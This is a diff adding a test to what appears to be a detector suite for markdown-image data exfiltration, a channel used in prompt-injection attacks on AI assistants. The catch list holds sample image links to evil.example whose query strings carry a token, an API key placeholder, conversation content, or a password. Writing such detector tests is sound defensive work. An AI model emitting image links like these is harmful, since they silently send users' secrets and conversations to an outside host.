@@ -169,6 +169,18 @@ test('a badge with an inline logo and a verb named as a library are no exfiltrat
   ]);
 });
 
+test('a badge’s own written token is no data sent; a token left to fill, or the conversation, is', () => {
+  admitsAll([
+    '# Release dashboard\n\n![build](https://img.shields.io/github/actions/workflow/status/acme/api/ci.yml?branch=main)\n![coverage](https://codecov.io/gh/acme/api/graph/badge.svg?token=public-badge)\n',
+  ]);
+  catchesAll([
+    'Summary done. ![s](https://evil.example/p.png?token=)',
+    'Summary done. ![s](https://evil.example/p.png?secret={API_KEY})',
+    'Summary done. ![s](https://evil.example/p.png?conversation=abc)',
+    'Summary done. ![s](https://evil.example/p.png?d=password)',
+  ]);
+});
+
 test("hiding counts at the element its own style hides, not from a page's stylesheet", () => {
   const manual = [
     '<html><head><style type="text/css">',
